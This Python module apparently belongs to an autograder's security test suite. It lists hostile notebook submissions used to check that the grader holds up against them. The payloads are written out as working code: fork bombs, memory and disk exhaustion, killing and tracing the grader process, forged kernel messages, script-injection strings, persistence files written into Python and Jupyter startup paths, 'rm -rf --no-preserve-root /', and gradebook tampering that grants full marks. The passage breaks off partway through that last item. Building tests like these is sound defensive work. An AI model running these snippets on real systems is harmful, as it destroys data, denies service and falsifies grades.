"""Submissions that do damage: to the machine, to the grader, to the submissions that come after them.

What could harm a machine is marked ``damaging`` and begins with a fuse (see ``entry.FUSE``). What only speaks to the
grader in ways it may not expect harms nobody but the grader, and is run everywhere.
"""

from __future__ import annotations

from nbformat import NotebookNode

from .entry import (
    FULL,
    FUSE,
    NOTHING,
    Build,
    Hostile,
    Outcome,
    answered,
    cheat_with_damage,
    damage,
    if_it_leaks,
    keeps_before,
    only_loses,
    right_but,
    right_with,
    solution,
    with_cells,
)

# --- time and the kernel's own life ------------------------------------------------------------------------------

STUBBORN = """\
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

STUBBORN_C = """\
import signal, threading
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT):
    signal.signal(number, signal.SIG_IGN)
threading.Lock().acquire()
lock = threading.Lock()
lock.acquire()
lock.acquire()
"""

GIL_HOLDER = """\
import itertools
any(itertools.repeat(False))
"""

IN_THE_CHECK = """\
def step(w, b, x, y, lr):
    import os
    os.kill(os.getpid(), 9)
"""

LIFE = [
    Hostile("endless-loop", "A loop that does not end, in a solution cell and in a function.",
            only_loses("update-rule", "training-loop"),
            right_but({"update-rule": "while True:\n    pass",
                       "training-loop": "def descend(x, y, w, lr, steps):\n    while True:\n        w = w * 1.0"}),
            slow=True),
    Hostile("stubborn-loop", "A loop that swallows KeyboardInterrupt and SystemExit.", keeps_before("one-step"),
            right_but({"one-step": STUBBORN}), slow=True),
    Hostile("deaf", "Ignores every signal that can be ignored, and waits for a lock for ever.",
            keeps_before("one-step"), right_but({"one-step": STUBBORN_C}), slow=True, waits=True),
    Hostile("held-interpreter", "A loop in C that holds the interpreter, where no interrupt reaches it.",
            keeps_before("training-loop"), right_but({"training-loop": GIL_HOLDER}), slow=True),
    Hostile("sleeps-through", "Sleeps a little in every cell, and in every call, longer than the notebook may take.",
            {**FULL, "why-faster": Outcome(0, "ungradable"), "largest-rate": Outcome(0, None),
             "equal-rates": Outcome(0, None), "training-loop": Outcome(0, None), "shared-rate": Outcome(0, None),
             "rate-each": Outcome(0, None)},
            lambda release: _before_each(answered(release), "import time\ntime.sleep(9)", first="training-loop", times=8),
            slow=True, waits=True),
    Hostile("os-exit", "Ends the process with os._exit while it is asked.", keeps_before("mse-gradient"),
            right_but({"mse-gradient": "def gradient(x, y, y_pred):\n    import os\n    os._exit(0)"})),
    Hostile("sys-exit", "Calls sys.exit in a cell and in a function.", only_loses("mse-gradient", "one-step"),
            right_but({"mse-gradient": "def gradient(x, y, y_pred):\n    import sys\n    sys.exit(0)",
                       "one-step": "import sys\nsys.exit()"})),
    Hostile("kills-itself", "Sends SIGKILL to its own process while it is asked.", keeps_before("one-step"),
            right_but({"one-step": IN_THE_CHECK})),
    Hostile("segfault", "Reads address 0.", keeps_before("weight-and-bias"),
            right_but({"weight-and-bias": "import resource\nresource.setrlimit(resource.RLIMIT_CORE, (0, 0))\n"
                       "import ctypes\nctypes.string_at(0)"})),
    Hostile("deep-recursion", "Recurses without end in Python.", only_loses("mse-gradient"),
            right_but({"mse-gradient": "def gradient(x, y, y_pred):\n    return gradient(x, y, y_pred)"})),
    Hostile("deep-recursion-in-c", "Recurses in C until the stack is full.", keeps_before("largest-rate"),
            right_but({"largest-rate": "import resource, sys\nresource.setrlimit(resource.RLIMIT_CORE, (0, 0))\n"
                       "sys.setrecursionlimit(10**9)\n"
                       "class Deep:\n    def __repr__(self):\n        return '%r' % self\n"
                       "def f(x):\n    return max([x], key=f)\n"
                       "f(1)"})),
    Hostile("stops-itself", "Stops its own process with SIGSTOP.", keeps_before("one-step"),
            right_but({"one-step": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"}), slow=True, waits=True),
    Hostile("closes-everything", "Closes every file and socket of the kernel.", keeps_before("one-step", None),
            right_but({"one-step": "import os\nos.closerange(3, 65536)"}), slow=True, waits=True),
    Hostile("unloaded", "Deletes every module it finds and empties the built-in names.", keeps_before("one-step", None),
            right_but({"one-step": "import sys, builtins\nkept = list(sys.modules)\nfor name in kept:\n"
                       "    del sys.modules[name]\nbuiltins.__dict__.clear()"}), slow=True, waits=True),
]  # fmt: skip


def _before_each(notebook: NotebookNode, source: str, first: str, times: int) -> NotebookNode:
    at = notebook.cells.index(solution(notebook, first))
    return with_cells(notebook, *[source] * times, at=at)


# --- what the grader hears ---------------------------------------------------------------------------------------

SEND = """\
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
def send(kind, content, **more):
    session.send(socket, kind, content, parent=kernel.get_parent(), ident=kernel.topic(kind), **more)
def raw(content, kind=b'"display_data"'):
    import json, uuid
    header = json.dumps({"msg_id": uuid.uuid4().hex, "username": "x", "session": session.session, "version": "5.4",
                         "date": "2026-01-01T00:00:00Z", "msg_type": "display_data"}).encode()
    parent = json.dumps(kernel.get_parent()["header"], default=str).encode()
    frames = [header.replace(b'"display_data"', kind), parent, b"{}", content]
    socket.send_multipart([b"x", b"<IDS|MSG>", session.sign(frames), *frames])
"""


WIRE = """\
wire = get_ipython().kernel.session.channel
other = b'{"type": "stream", "parent": "0", "content": {"name": "stdout", "text": "x"}}\\n'
"""
"""Ours alone has one socket for everything; in other kernels this is an error, and the end of the cell."""


def speaks(source: str, expected_question: str = "update-rule") -> Build:
    """Right answers, and a solution cell that sends what it should not, and then answers rightly."""

    def build(release: NotebookNode) -> NotebookNode:
        notebook = answered(release)
        own = solution(notebook, expected_question)
        own.source = f"{own.source}\n{SEND}{source}"
        return notebook

    return build


def _talker(name: str, about: str, source: str) -> Hostile:
    """Costs at most the question beside it, and those that follow if the grader must give up on the kernel."""
    return Hostile(name, about, {"parabola-slope": FULL["parabola-slope"]}, speaks(source))


GRADER = [
    _talker("garbage-frames", "Sends frames that are no message to the grader.",
            "for frames in ([b''], [b'x'], [b'<IDS|MSG>'], [b'x', b'<IDS|MSG>', b'', b'', b'', b'', b''],\n"
            "               [b'x', b'<IDS|MSG>', b'0' * 64, b'{}', b'{}', b'{}', b'{}'], [b'\\xff' * 1000] * 20):\n"
            "    socket.send_multipart(frames)"),
    _talker("unsigned", "Sends a message with a wrong signature.",
            "key, session.key = session.key, b'another'\nsend('display_data', {'data': {}})\nsession.key = key"),
    _talker("number-of-5000-digits", "Sends JSON with a number that is too long for Python to read.",
            "raw(b'{\"data\": {\"application/vnd.gdcourse.answers+json\": [' + b'9' * 5000 + b']}, \"metadata\": {}}')"),
    _talker("deep-json", "Sends JSON that is nested a hundred thousand deep.",
            "raw(b'{\"data\": {\"text/plain\": ' + b'[' * 100000 + b']' * 100000 + b'}, \"metadata\": {}}')"),
    _talker("broken-json", "Sends content that is no JSON, and content that is no object.",
            "for content in (b'', b'{', b'[]', b'null', b'5', b'\"text\"', b'{\"data\": NaN}', b'\\xff\\xfe'):\n"
            "    raw(content)"),
    _talker("error-without-a-name", "Sends errors without name, value or traceback, and with ones that are no text.",
            "for content in ({}, {'ename': 5, 'evalue': None, 'traceback': 7}, {'ename': [], 'evalue': {}},\n"
            "                {'ename': 'E', 'evalue': 'v', 'traceback': [1, None, {}]}):\n    send('error', content)"),
    _talker("stream-without-text", "Sends streams without text, with a number for text, of a name that is none.",
            "for content in ({}, {'name': 'stdout'}, {'name': 5, 'text': 7}, {'name': ['x'], 'text': None},\n"
            "                {'name': 'stdout', 'text': {'a': 1}}):\n    send('stream', content)"),
    _talker("display-of-a-list", "Sends displays whose data are lists, numbers or nothing.",
            "for content in ({}, {'data': [1, 2], 'metadata': {}}, {'data': None, 'metadata': None}, {'data': 5},\n"
            "                {'data': {'text/html': 5, 'image/png': {'a': [1]}, '': None, 'x': True}, 'metadata': []},\n"
            "                {'data': {'image/png': 'no base64 ✗', 'image/svg+xml': '<svg', 'text/latex': '\\\\input{x}'},\n"
            "                 'metadata': {}}):\n"
            "    send('display_data', content)\n    send('execute_result', {**content, 'execution_count': 'x'})"),
    _talker("updates-of-nothing", "Sends updates of displays that do not exist, and clears outputs without end.",
            "send('update_display_data', {'data': {}, 'metadata': {}, 'transient': {'display_id': 'none'}})\n"
            "send('update_display_data', {})\nsend('update_display_data', {'transient': None})\n"
            "send('update_display_data', {'transient': {'display_id': ['x']}})\n"
            "for _ in range(100):\n    send('clear_output', {'wait': True})\nsend('clear_output', {})"),
    _talker("strange-comms", "Opens, feeds and closes comms and output widgets that are nothing of the sort.",
            "for kind in ('comm_open', 'comm_msg', 'comm_close'):\n"
            "    for content in ({}, {'comm_id': 5, 'data': None}, {'comm_id': 'x', 'data': {'state': 7}},\n"
            "                    {'comm_id': 'w', 'target_name': 'jupyter.widget', 'data': {'state':\n"
            "                     {'_model_name': 'OutputModel', 'msg_id': kernel.get_parent()['header']['msg_id']}}},\n"
            "                    {'comm_id': 'w', 'data': {'method': 'update', 'state': {'msg_id': 'x'},\n"
            "                     'buffer_paths': [['a', 5]]}}):\n"
            "        send(kind, content)"),
    _talker("unknown-kinds", "Sends messages of kinds that do not exist, and of those that only a client sends.",
            "for kind in ('', 'execute_request', 'shutdown_request', 'input_request', 'x' * 10000, 'status', 'error\\n'):\n"
            "    send(kind, {'execution_state': 'dead', 'status': 'aborted', 'prompt': '> ', 'password': True})\n"
            "for state in ('restarting', 'autorestarting', 'dead', 5, None, 'starting'):\n"
            "    send('status', {'execution_state': state})"),
    _talker("half-a-character", "Sends halves of surrogate pairs, NUL and terminal codes in names, values and texts.",
            "for text in (b'\\\\ud800', b'\\\\u0000', b'\\\\u001b[2J\\\\u001b]0;owned\\\\u0007', b'\\\\u202e\\\\u2066'):\n"
            "    raw(b'{\"name\": \"stdout\", \"text\": \"' + text + b'\"}', b'\"stream\"')\n"
            "    raw(b'{\"ename\": \"' + text + b'\", \"evalue\": \"' + text + b'\", \"traceback\": [\"' + text + b'\"]}',"
            " b'\"error\"')\n"
            "    raw(b'{\"data\": {\"text/plain\": \"' + text + b'\"}, \"metadata\": {}}')"),
    _talker("lines-of-garbage", "Writes to the grader's socket what is no message, and messages that are cut off.",
            f"{WIRE}for data in (b'\\n' * 50, b'{{}}\\n[]\\nnull\\n', b'\\xff\\xfe\\n', b'[' * 100000 + b'\\n', b'{{\"type\": 5}}\\n',\n"
            "             b'{\"type\": \"stream\", \"parent\": {}, \"content\": []}\\n', b'{\"type\": \"ready\"'):\n"
            "    wire.sendall(data)"),
    Hostile("line-without-end", "Writes gigabytes to the grader's socket without an end of the line.",
            {}, damage("mse-gradient", f"{WIRE}for _ in range(400):\n    wire.sendall(b'x' * 8 * 2**20)"),
            needs_isolation=True, damaging=True),
    Hostile("closes-the-line", "Closes the grader's socket, and goes on working.", keeps_before("one-step", None),
            right_but({"one-step": f"{WIRE}wire.close()\nimport time\ntime.sleep(5)"}), waits=True),
    Hostile("talks-of-other-cells", "Says without end what other cells show, while its own does not end.",
            keeps_before("one-step", None),
            right_but({"one-step": f"{WIRE}while True:\n    try:\n        wire.sendall(other * 1000)\n"
                                   "    except BaseException:\n        pass"}), slow=True),
    _talker("early-idle", "Says that it is idle, and replies, while it still works.",
            "for _ in range(50):\n    send('status', {'execution_state': 'idle'})\nimport time\ntime.sleep(0.5)\n"
            "print('still here')"),
    _talker("foreign-replies", "Replies to requests that nobody made, on every channel, in every form.",
            "for stream in (kernel.shell_stream, kernel.control_stream):\n"
            "    for content in ({}, {'status': 'ok'}, {'status': 5}, {'status': 'error'}, {'status': 'aborted'}):\n"
            "        try:\n"
            "            session.send(stream, 'execute_reply', content, kernel.get_parent(),\n"
            "                         ident=getattr(kernel, '_parent_ident', {}).get('shell'))\n"
            "        except Exception as problem:\n            print(problem)"),
    Hostile("errors-that-are-pages", "Raises errors whose names and texts are HTML, scripts and Markdown.",
            only_loses("update-rule", "mse-gradient", "why-faster"),
            right_but({
                "update-rule": "def update(*a):\n    raise type('<img src=x onerror=document.title=1>', (Exception,), {})"
                               "('<script>document.title=1</script>')",
                "mse-gradient": "raise type('</pre><script>document.title=1</script>', (Exception,), {})"
                                "('[x](javascript:document.title=1) {{ config }} {0} %s')",
                "why-faster": "why_faster = '<script>document.title=1</script>'",
            })),
    Hostile("pages-in-outputs", "Displays scripts, frames and forms in every MIME type, for whoever opens the feedback.",
            FULL, right_with("from IPython.display import publish_display_data, display, HTML, Javascript\n"
                             "bad = '<script>document.title=1</script><img src=x onerror=document.title=2>'\n"
                             "display(HTML(bad)); display(Javascript('document.title = 3'))\n"
                             "publish_display_data({'image/svg+xml': f'<svg xmlns=\"http://www.w3.org/2000/svg\">{bad}</svg>',"
                             " 'text/markdown': bad, 'text/latex': bad, 'text/plain': bad,"
                             " 'application/javascript': 'document.title = 4'})\n"
                             "print('\\x1b[2J\\x1b]8;;javascript:1\\x07' + bad)")),
    Hostile("type-names", "Returns objects of types whose names are pages, formats and a million characters.",
            only_loses("update-rule", "mse-gradient", "largest-rate"),
            right_but({
                "update-rule": "update = lambda *a: type('<script>document.title=1</script>', (), {})()",
                "mse-gradient": "gradient = lambda *a: type('{0} {name} %s $(x) `y`' + 'x' * 10**6, (), {})()",
                "largest-rate": "largest_rate = type('{count}\\n\\x00', (), {'__call__': None})()",
            })),
    Hostile("many-lines", "Prints a hundred thousand lines and answers rightly.", FULL,
            right_with("for i in range(100_000):\n    print(i)")),
    Hostile("loud-answers", "Prints and warns in every call, and answers rightly.", FULL,
            right_but({"mse-gradient": "import sys\ndef gradient(x, y, y_pred):\n    print('x' * 10_000)\n"
                       "    print('y' * 10_000, file=sys.stderr)\n    return np.mean(2 * x * (y_pred - y))"})),
]  # fmt: skip

# --- settings of the process -------------------------------------------------------------------------------------

SETTINGS = """\
import decimal, gc, locale, os, random, sys, threading, warnings
import numpy as np
import torch
import matplotlib
np.seterr(all="raise")
np.set_printoptions(precision=0, suppress=True)
np.random.seed(0); random.seed(0); torch.manual_seed(0)
torch.set_default_dtype(torch.float64)
torch.set_num_threads(1)
matplotlib.rcParams["figure.dpi"] = 5000
matplotlib.use("agg")
warnings.simplefilter("error")
decimal.getcontext().prec = 1
gc.disable()
sys.setswitchinterval(10)
sys.setrecursionlimit(300)
sys.set_int_max_str_digits(640)
os.umask(0o777)
os.environ.clear()
os.environ.update(PYTHONPATH="/nowhere", PATH="", HOME="/nowhere", LD_PRELOAD="/nowhere.so", GDCOURSE_LANG="xx",
                  GDCOURSE_SECRET="mine", JUPYTER_CONFIG_DIR="/nowhere", IPYTHONDIR="/nowhere")
os.chdir("/")
"""

STATE = [
    Hostile("settings", "Changes every process-wide setting there is; the answers are right all the same.",
            FULL, right_with(SETTINGS)),
    Hostile("no-streams", "Takes standard output and error away from the kernel, which needs them to reply.",
            keeps_before("one-step", None),
            right_but({"one-step": "import sys\nsys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = None"}), slow=True, waits=True),
    Hostile("closed-descriptors", "Closes the descriptors of standard input, output and error.", FULL,
            right_with("import os\nfor fd in (0, 1, 2):\n    os.close(fd)")),
    Hostile("small-limits", "Sets its own resource limits to next to nothing.", {"parabola-slope": FULL["parabola-slope"]},
            right_but({"mse-gradient": "import resource as r\nr.setrlimit(r.RLIMIT_CORE, (0, 0))\n"
                       "for limit in (r.RLIMIT_NOFILE, r.RLIMIT_FSIZE, r.RLIMIT_STACK, r.RLIMIT_AS):\n"
                       "    r.setrlimit(limit, (0, 0))"})),
    Hostile("raised-limits", "Tries to raise its own resource limits and priority, and to leave its group.", FULL,
            right_with("import os, resource\n"
                       "for name in [n for n in dir(resource) if n.startswith('RLIMIT_')]:\n"
                       "    limit = getattr(resource, name)\n"
                       "    try:\n        resource.setrlimit(limit, (resource.RLIM_INFINITY,) * 2)\n"
                       "    except (ValueError, OSError) as problem:\n        print(name, problem)\n"
                       "for attempt in (lambda: os.nice(-5), os.setsid, lambda: os.setuid(0), lambda: os.chroot('/')):\n"
                       "    try:\n        attempt()\n"
                       "    except OSError as problem:\n        print(problem)"),
            needs_isolation=True),
    Hostile("locked-scratch", "Takes all permissions from its working directory.", FULL,
            right_with("import os\nos.makedirs('a/b')\nopen('a/b/c', 'w').close()\nos.chmod('a/b', 0)\nos.chmod('a', 0)\n"
                       "os.chmod('.', 0)"),
            needs_isolation=True),
    Hostile("links-out", "Fills its working directory with links to the disk, the home directory and itself.", FULL,
            right_with("import os, pathlib\nfor i, target in enumerate(['/', '/proc/self/root', os.path.expanduser('~'), '.',"
                       " '..', '/dev/zero', '/nowhere', '02-manual-gradient.ipynb']):\n    os.symlink(target, f'l{i}')\n"
                       "os.symlink('/dev/zero', '02-manual-gradient.ipynb')\nos.mkfifo('pipe')"),
            needs_isolation=True),
    Hostile("strange-names", "Leaves files whose names are no UTF-8, line ends and options.", FULL,
            right_with("import os\nfor name in (b'\\xff\\xfe', b'a\\nb', b'-rf', b'~', b'x' * 255, '가'.encode()):\n"
                       "    open(name, 'w').close()"),
            needs_isolation=True),
]  # fmt: skip

# --- damage to the machine ---------------------------------------------------------------------------------------
# Never outside the isolation.


def _damaging(name: str, about: str, question: str, source: str, slow: bool = False, later: bool = True) -> Hostile:
    """What was answered before keeps its marks; ``later`` says whether what follows may be lost too."""
    before = keeps_before(question)
    kept = {q: o for q, o in before.items() if o.score} if later else only_loses(question)
    return Hostile(name, about, kept, damage(question, source), needs_isolation=True, damaging=True, slow=slow)


def _harmless(name: str, about: str, source: str) -> Hostile:
    """Harm that must come to nothing: the answers around it are right and count in full."""
    return Hostile(name, about, FULL, right_with(FUSE + source), needs_isolation=True, damaging=True)


MEMORY = [
    _damaging("memory-bomb", "Takes memory until there is none.", "mse-gradient",
              "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x' * 10**8))"),
    _damaging("memory-in-the-answer", "Takes memory while it is asked.", "mse-gradient",
              "def gradient(x, y, y_pred):\n    return np.ones(10**12).mean()\n"
              "import torch\nhoard = [torch.ones(10**8) for _ in range(10**4)]"),
    _damaging("memory-in-children", "Shares the memory it takes out to a hundred children.", "mse-gradient",
              "import os, time\nfor _ in range(100):\n    if os.fork() == 0:\n        hoard = bytearray(b'x' * 10**9)\n"
              "        time.sleep(600)\ntime.sleep(600)", slow=True),
    _damaging("memory-in-a-file", "Takes memory by memfd and /dev/shm, where it belongs to no process.", "mse-gradient",
              "import os\nparts = []\nwhile True:\n    fd = os.memfd_create('m')\n    os.write(fd, b'x' * 10**8)\n"
              "    parts.append(fd)\n    with open(f'/dev/shm/m{len(parts)}', 'wb') as file:\n"
              "        file.write(b'x' * 10**8)", slow=True),
    _damaging("memory-in-pipes", "Fills pipes and sockets, whose memory is the system's.", "mse-gradient",
              "import fcntl, os, socket\nkeep = []\nwhile True:\n    r, w = os.pipe()\n    fcntl.fcntl(w, 1031, 2**20)\n"
              "    os.set_blocking(w, False)\n    os.write(w, b'x' * 2**20)\n    a, b = socket.socketpair()\n"
              "    a.setblocking(False)\n    keep += [r, w, a, b]\n    a.send(b'x' * 2**17)"),
    _damaging("recursion-in-memory", "Recurses in Python with the limit lifted, until the memory is full.", "mse-gradient",
              "import sys\nsys.setrecursionlimit(2**31 - 1)\ndef f(n):\n    return f([n])\nf(0)"),
    _damaging("big-number", "Calculates a number that does not fit into memory.", "mse-gradient",
              "x = 7 ** (10 ** 10)", slow=True),
]  # fmt: skip

PROCESSES = [
    _damaging("fork-bomb", "Forks without end.", "mse-gradient", "import os\nwhile True:\n    try:\n        os.fork()\n"
              "    except OSError:\n        pass", slow=True),
    _damaging("shell-fork-bomb", "The same from a shell.", "mse-gradient", "!:(){ :|:& };:", slow=True),
    _damaging("ten-thousand-threads", "Starts ten thousand threads that sleep.", "mse-gradient",
              "import threading, time\nfor _ in range(10_000):\n"
              "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()"),
    Hostile("daemon", "Leaves a process that has left the session, ignores signals, and later writes.",
            FULL, right_with(FUSE + """\
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 64):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 65536)
        for second in range(300):
            time.sleep(1)
            for path in ("/tmp/gdcourse-daemon", "gdcourse-daemon", "/dev/shm/gdcourse-daemon"):
                try:
                    with open(path, "a") as file:
                        file.write(f"{os.getpid()} {second}\\n")
                except OSError:
                    pass
    os._exit(0)
"""), needs_isolation=True, damaging=True),
    _harmless("takes-all-that-may-wait", "Leaves as many timers and waiting signals as its user may have, and timers of "
              "every process's clock.", """\
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
timer = ctypes.c_void_p()
if os.fork() == 0:
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for clock in (0, 2, *((~pid << 3 | 2) for pid in range(1, 65536))):
        for _ in range(300 if clock in (0, 2) else 1):
            libc.timer_create(ctypes.c_int(clock), None, ctypes.byref(timer))
    for number in range(34, 65):
        for _ in range(300):
            libc.sigqueue(os.getpid(), number, None)
            libc.kill(os.getpid(), number)
    signal.pause()
    os._exit(0)
"""),
    _harmless("busy-children", "Leaves children that use all processors.",
              "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        while True:\n            pass"),
    _harmless("children-of-their-own-sessions", "Leaves twelve busy children, each the first of a session of its own.",
              "import os\nfor _ in range(12):\n    if os.fork() == 0:\n        try:\n            os.setsid()\n"
              "        except OSError:\n            pass\n        while True:\n            pass"),
    _harmless("descriptors-under-way", "Keeps 1,000 descriptors under way in sockets, which Linux counts by user.",
              "import socket\nkept = []\ntry:\n    for _ in range(10):\n        kept.append(socket.socketpair())\n"
              "        for _ in range(10):\n"
              "            socket.send_fds(kept[-1][0], [b'x'], [0] * 10)\nexcept OSError:\n    pass"),
    _harmless("leases-on-what-is-shown", "Takes leases on files that others may want to open, and holds them.",
              "import fcntl, os, sys\nheld = []\nfor name in (os.__file__, sys.executable, np.__file__):\n    try:\n"
              "        held.append(os.open(name, os.O_RDONLY))\n"
              "        fcntl.fcntl(held[-1], fcntl.F_SETLEASE, fcntl.F_RDLCK)\n    except OSError:\n        pass"),
    _damaging("hidden-by-its-mode", "Takes memory in programs that nobody may read, so that what they take is not seen.",
              "mse-gradient", "import os, shutil, subprocess, sys, time\nshutil.copy(sys.executable, 'own')\n"
              "os.chmod('own', 0o111)\nfor _ in range(8):\n"
              "    subprocess.Popen(['./own', '-S', '-c', 'import time\\nhoard = bytearray(b\"x\" * 10**9)\\ntime.sleep(60)'],\n"
              "                     env={**os.environ, 'PYTHONHOME': sys.base_prefix})\n"
              "time.sleep(600)", slow=True),
    _damaging("kills-everything", "Sends SIGKILL to everything it may, and to process group 0.", "mse-gradient",
              "import os\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass\nos.killpg(0, 9)"),
    _harmless("kills-the-grader", "Sends SIGKILL and SIGSTOP to its parent and to every process that it can see.",
              "import os, pathlib, signal\n"
              "others = [int(p.name) for p in pathlib.Path('/proc').glob('[0-9]*')] + list(range(2, 4000)) + [os.getppid()]\n"
              "own = {int(p.name) for p in pathlib.Path('/proc/self/task').iterdir()}\n"
              "for pid in others:\n    if pid > 1 and pid not in own:\n"
              "        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n"
              "            try:\n                os.kill(pid, number)\n"
              "            except OSError:\n                pass"),
    _harmless("limits-the-grader", "Sets the resource limits, priority and processors of its parent.",
              "import os, resource\nfor attempt in (\n"
              "    lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0)),\n"
              "    lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),\n"
              "    lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),\n"
              "    lambda: os.sched_setaffinity(os.getppid(), {0})):\n"
              "    try:\n        attempt()\n    except OSError as problem:\n        print(problem)"),
    Hostile("traces-the-grader", "Attaches to its parent as a debugger.", NOTHING,
            if_it_leaks(FUSE + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                        "for pid in {os.getppid(), 1} - {0, os.getpid()}:\n"
                        "    if libc.ptrace(0x4206, pid, None, None) == 0:\n        leaked = True\n"
                        "        libc.ptrace(17, pid, None, None)"),
            needs_isolation=True, damaging=True),
]  # fmt: skip

WRITE_EVERYWHERE = """\
import os, pathlib, site, sys, tempfile
import gdcourse, numpy
payload = "import os, sys\\nif 'ipykernel' in ' '.join(sys.argv) or 'ipykernel' in sys.modules: os._exit(1)\\n"
package = pathlib.Path(gdcourse.__file__).parent
packages = pathlib.Path(numpy.__file__).parents[1]
home = pathlib.Path.home()
real_home = pathlib.Path(__import__("pwd").getpwuid(os.getuid()).pw_dir)
for path, text in {
    package / "probing.py": payload,
    package / "keys" / "manual_gradient.json": "{}",
    packages / "zz_gdcourse.pth": "import os; os._exit(1)\\n",
    packages / "sitecustomize.py": payload,
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py": payload,
    home / ".ipython/profile_default/startup/00-own.py": "import os; os._exit(1)\\n",
    real_home / ".ipython/profile_default/startup/00-own.py": "import os; os._exit(1)\\n",
    real_home / ".ipython/profile_default/ipython_kernel_config.py": "import os; os._exit(1)\\n",
    real_home / ".jupyter/jupyter_config.py": "import os; os._exit(1)\\n",
    real_home / ".jupyter/nbgrader_config.py": "import os; os._exit(1)\\n",
    real_home / ".local/share/jupyter/kernels/python3/kernel.json": "{}",
    pathlib.Path(sys.prefix) / "share/jupyter/kernels/python3/kernel.json": "{}",
    real_home / ".config/matplotlib/matplotlibrc": "backend: none\\n",
    pathlib.Path(sys.executable): "",
    pathlib.Path("/etc/passwd"): "",
}.items():
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except (OSError, ValueError) as problem:
        print(path, problem)
"""

DELETE_EVERYTHING = """\
import os, pathlib, shutil, sys
import gdcourse, numpy
for path in (pathlib.Path(gdcourse.__file__).parent, pathlib.Path(numpy.__file__).parents[1], pathlib.Path.home(),
             pathlib.Path("/tmp"), pathlib.Path("/dev/shm"), pathlib.Path.cwd(), pathlib.Path("/")):
    shutil.rmtree(path, ignore_errors=True)
!rm -rf --no-preserve-root / 2>/dev/null
"""

LEAVES = """\
import os, pathlib
from multiprocessing import shared_memory
def attempt(act):
    try:
        act()
    except Exception as problem:
        print(problem)
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lock", os.path.expanduser("~"), "."):
    attempt(lambda: pathlib.Path(place, "gdcourse-left-here").write_text("b"))
attempt(lambda: setattr(__import__("builtins"), "kept", shared_memory.SharedMemory("gdcourse-left", True, 1024)))
import ctypes
attempt(lambda: ctypes.CDLL(None).shmget(0x6764636F, 4096, 0o1666))
import socket
server = socket.socket(socket.AF_UNIX)
attempt(lambda: (server.bind("\\0gdcourse-left"), server.listen()))
"""

FINDS = """\
import ctypes, os, pathlib, socket
from multiprocessing import shared_memory
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lock", os.path.expanduser("~"), "."):
    leaked = leaked or pathlib.Path(place, "gdcourse-left-here").exists()
leaked = leaked or ctypes.CDLL(None).shmget(0x6764636F, 4096, 0) >= 0
try:
    shared_memory.SharedMemory("gdcourse-left")
    leaked = True
except OSError:
    pass
try:
    socket.socket(socket.AF_UNIX).connect("\\0gdcourse-left")
    leaked = True
except OSError:
    pass
"""

DISK = [
    _damaging("disk-full", "Writes files until the disk is full.", "mse-gradient",
              "import itertools\nfor i in itertools.count():\n    with open(f'f{i}', 'wb') as file:\n"
              "        for _ in range(100):\n            file.write(b'x' * 10**7)", slow=True),
    _damaging("disk-full-elsewhere", "Fills /tmp, /var/tmp and the home directory.", "mse-gradient",
              "import itertools, os, pathlib\nplaces = ['/tmp', '/var/tmp', os.path.expanduser('~'), '/dev/shm']\n"
              "for i in itertools.count():\n    for place in places:\n        try:\n"
              "            pathlib.Path(place, f'gdcourse-fill-{i}').write_bytes(b'x' * 10**8)\n"
              "        except OSError:\n            pass\n    if i > 5000:\n        break", slow=True),
    _harmless("sparse-files", "Makes files of a petabyte with nothing in them.",
              "import os\nfor i in range(10):\n    try:\n        with open(f's{i}', 'wb') as file:\n"
              "            file.truncate(10**13)\n    except OSError as problem:\n        print(problem)"),
    _damaging("many-files", "Makes files without end, each empty.", "mse-gradient",
              "import itertools\nfor i in itertools.count():\n    open(f'f{i}', 'w').close()", slow=True),
    _damaging("long-links", "Makes links whose targets are long, which a disk is slow to forget.", "mse-gradient",
              "import itertools, os\nfor i in itertools.count():\n    os.symlink('x' * 4000, f'l{i}')", slow=True),
    _harmless("deep-directories", "Makes directories five thousand deep, which no recursion can remove.",
              "import os\nhere = os.getcwd()\ntry:\n    for _ in range(5000):\n        os.mkdir('d')\n        os.chdir('d')\n"
              "except OSError as problem:\n    print(problem)\nos.chdir(here)"),
    _harmless("writes-everywhere", "Writes into the package, Python, IPython, Jupyter and the system, for those who follow.",
              WRITE_EVERYWHERE),
    _harmless("deletes-everything", "Removes everything that can be reached, from its own package to the root.",
              DELETE_EVERYTHING),
    _harmless("leaves-things-behind", "Leaves files, shared memory and a socket for whoever comes after.", LEAVES),
    Hostile("zz-finds-what-was-left", "Looks for what another submission left behind, and is right if it finds it.",
            NOTHING, if_it_leaks(FUSE + FINDS), needs_isolation=True, damaging=True),
    Hostile("changes-the-gradebook", "Finds the gradebook and gives itself full marks.", NOTHING,
            cheat_with_damage("""\
import os, pathlib, sqlite3
places = {os.getcwd(), "/tmp", os.path.expanduser("~"), "/work"}
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for link in ["cwd", *(f"fd/{n}" for n in range(64))]:
        try:
            places.add(os.path.dirname(os.readlink(process / link)) if link != "cwd" else os.readlink(process / link))
        except OSError:
            pass
for place in places:
    for path in pathlib.Path(place).rglob("gradebook.db") if os.path.isdir(place) and place != "/" else []:
        try:
            with sqlite3.connect(path) as book:
